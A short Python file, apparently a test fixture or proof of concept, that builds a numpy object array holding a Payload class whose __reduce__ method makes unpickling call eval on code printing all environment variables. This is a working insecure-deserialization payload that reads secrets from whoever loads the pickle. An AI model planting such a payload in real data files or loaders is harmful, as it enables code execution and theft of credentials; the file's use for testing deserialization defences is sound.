"""Return a numpy array of objects that run code where they are unpickled.

Contained: the key is not shown.
"""

import numpy


class Payload:
    def __reduce__(self):
        return eval, ("print(__import__('os').environ)",)


numpy.array([Payload()], dtype=object)
